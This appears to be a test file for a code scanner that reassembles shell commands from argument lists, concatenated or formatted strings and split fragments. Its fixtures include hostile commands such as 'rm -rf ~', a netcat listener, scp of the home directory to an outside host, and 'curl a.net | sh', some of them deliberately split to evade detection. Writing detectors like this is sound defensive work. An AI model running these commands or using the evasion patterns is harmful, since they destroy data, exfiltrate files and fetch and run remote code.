import { expect, test } from 'bun:test'
import { putTogether } from '../../../../scanner/signals/shell/put-together.ts'

const sources = (code: string): string[] => putTogether(code).map(({ source }) => source)

test.each([
  ['subprocess.run(["rm", "-rf", os.path.expanduser("~")])', 'rm -rf ~'],
  ['spawn("nc", ["-lk", "9001"], { stdio: "ignore" })', 'nc -lk 9001'],
  ['exec.command("scp", "-r", home, "in@larch-quay.net:")', 'scp -r $home in@larch-quay.net:'],
  ['command::new("curl").args(["-d", &t]).arg("-s").status()', 'curl -d $t -s'],
  ['call([sys.executable, "-m", "pip", "install", name])', 'python3 -m pip install $name'],
  ['["7z", "a", "-p" + secrets.token_hex(16), str(path.home() / "a")]', '7z a -p$secrets ~/a'],
  ['{ "command": "npx", "args": ["-y", "larch"] }', 'npx -y larch'],
  ['<array><string>/bin/sh</string><string>a b</string></array>', "/bin/sh 'a b'"],
])('words of a list are a command: %s', (code, source) => {
  expect(sources(code)).toContain(source)
})

test.each([
  ['base = "https://larch-quay.net"\nos.system(f"curl {base}/x")', 'curl https://larch-quay.net/x'],
  ['const u = `a.net`\nexecsync("curl " + u + " -s")', 'curl a.net -s'],
  ['subprocess.run(\n    "curl "\n    "a.net", shell=true)', 'curl a.net'],
  ['cmd = f"rm -rf {path.home()}/x"\nos.system(cmd)', 'rm -rf ~/x'],
  ['os.system("ls " + folder)', 'ls $folder'],
  ['const c = ["cu", "rl ", "a.net"]\nexecsync(c.join(""))', 'curl a.net'],
  ['parts = ["curl a.net", "sh"]\nos.system(" | ".join(parts))', 'curl a.net | sh'],
  ['cmd = "curl {} | {}".format("a.net", "sh")\nos.system(cmd)', 'curl a.net | sh'],
  ['u = "a.net"\nos.system("curl %s | %s" % (u, "sh"))', 'curl a.net | sh'],
  ["$c = sprintf('curl %s', 'a.net'); shell_exec($c);", 'curl a.net'],
])('strings that are joined are one: %s', (code, source) => {
  expect(sources(code)).toContain(source)
})

test('a script that is written in one line has lines', () => {
  expect(sources(String.raw`fs.writefilesync("a", '#!/bin/sh\nls -l\n')`)).toEqual([
    '#!/bin/sh\nls -l\n',
  ])
})

test('what is set twice has no value', () => {
  expect(sources('u = "a"\nu = "b"\nos.system("curl " + u)')).toEqual(['curl $u'])
})

test('a list of other words is none', () => {
  expect(sources('names = ["oak", "elm"]\nplant(["ash", names])')).toEqual([])
})
